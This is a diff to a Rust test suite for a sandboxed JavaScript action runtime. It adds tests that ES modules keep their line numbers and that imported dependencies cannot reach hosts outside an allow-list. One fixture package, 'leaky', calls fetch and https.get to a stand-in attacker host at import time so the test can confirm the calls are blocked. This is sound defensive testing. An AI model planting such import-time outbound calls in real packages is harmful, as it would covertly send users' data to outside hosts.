@@ -10,6 +10,14 @@ use actionflow_runtime::{Event, ExecutionRequest, NoFiles, Secrets, Status};
 use crate::{limits, runtime};
 
 async fn run_installed(code: &str, hosts: &[&str]) -> actionflow_runtime::Outcome {
+    run_installed_with(code, hosts, Arc::new(NoFiles)).await
+}
+
+async fn run_installed_with(
+    code: &str,
+    hosts: &[&str],
+    files: Arc<dyn actionflow_runtime::ModuleFiles>,
+) -> actionflow_runtime::Outcome {
     let mut configuration = serde_json::Map::new();
     configuration.insert("GREETING".into(), "hello".into());
     let hosts: Vec<String> = hosts.iter().map(|h| (*h).to_owned()).collect();
@@ -32,7 +40,7 @@ async fn run_installed(code: &str, hosts: &[&str]) -> actionflow_runtime::Outcom
         action: "a".into(),
         version: format!("v-{}", actionflow_marketplace::digest(wrapped.as_bytes())),
         code: Arc::from(wrapped),
-        files: Arc::new(NoFiles),
+        files,
         trigger_id: "post-login".into(),
         event: Event::new(&serde_json::json!({"user": {"user_id": "u1"}})).expect("an event"),
         secrets: Secrets::default(),
@@ -139,4 +147,81 @@ async fn the_partners_lines_keep_their_numbers() {
     let outcome = run_installed(code, &[]).await;
     assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
     assert_eq!(outcome.error.expect("an error").line, Some(3));
+}
+
+fn claims(outcome: &actionflow_runtime::Outcome) -> Vec<serde_json::Value> {
+    outcome
+        .api_calls
+        .iter()
+        .map(|c| serde_json::Value::Array(c.args.clone()))
+        .collect()
+}
+
+/// An ES module: its exports (named, renamed, default) are the wrapper's to re-export; the handler
+/// gets `event.configuration`, and the partner's lines keep their numbers.
+#[tokio::test]
+async fn an_es_module_runs_installed_with_its_lines() {
+    let code = "const greet = (who) => `hi ${who}`;\n\
+                async function handler(event, api) {\n\
+                  api.accessToken.setCustomClaim('greeting', event.configuration.GREETING);\n\
+                  api.accessToken.setCustomClaim('frozen', Object.isFrozen(event));\n\
+                }\n\
+                export { handler as onExecutePostLogin };\n\
+                export default greet;\n";
+    let outcome = run_installed(code, &[]).await;
+    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
+    assert_eq!(
+        claims(&outcome),
+        [
+            serde_json::json!(["greeting", "hello"]),
+            serde_json::json!(["frozen", true]),
+        ]
+    );
+    let code = "import path from 'node:path';\n\
+                export const onExecutePostLogin = async (event) => {\n\
+                  throw new Error('at line three ' + path.sep);\n\
+                };\n";
+    let outcome = run_installed(code, &[]).await;
+    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
+    assert_eq!(outcome.error.expect("an error").line, Some(3));
+}
+
+/// A dependency's top-level code runs before the partner's module body: the wrapper's first
+/// import has already restricted the network by then, so neither its `fetch` nor its sockets
+/// leave for a host outside `network.hosts`.
+#[tokio::test]
+async fn an_es_modules_dependencies_are_restricted_while_imported() {
+    let dir = tempfile::tempdir().expect("a temp dir");
+    let package = dir.path().join("leaky");
+    std::fs::create_dir_all(&package).expect("a folder");
+    std::fs::write(
+        package.join("package.json"),
+        r#"{"name": "leaky", "version": "1.0.0", "main": "index.js"}"#,
+    )
+    .expect("written");
+    std::fs::write(
+        package.join("index.js"),
+        "globalThis.leakFetch = fetch('https://collector.evil.example/x')\n\
+           .then(() => 'reached', (e) => e.message);\n\
+         globalThis.leakSocket = new Promise((resolve) => {\n\
+           require('https').get('https://collector.evil.example/y', () => resolve('reached'))\n\
+             .on('error', (e) => resolve(e.message));\n\
+         });\n\
+         module.exports = 1;\n",
+    )
+    .expect("written");
+    let mounts = [("/node_modules/leaky".to_owned(), package)].into();
+    let files = Arc::new(actionflow_runtime::PackageMounts::new(mounts));
+    let code = "import leaky from 'leaky';\n\
+                export async function onExecutePostLogin(event, api) {\n\
+                  api.accessToken.setCustomClaim('fetch', await globalThis.leakFetch);\n\
+                  api.accessToken.setCustomClaim('socket', await globalThis.leakSocket);\n\
+                }\n";
+    let outcome = run_installed_with(code, &["api.example.com"], files).await;
+    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
+    for claim in claims(&outcome) {
+        let text = claim[1].as_str().unwrap_or_default();
+        assert!(text.contains("collector.evil.example"), "{outcome:?}");
+        assert_ne!(text, "reached");
+    }
 }
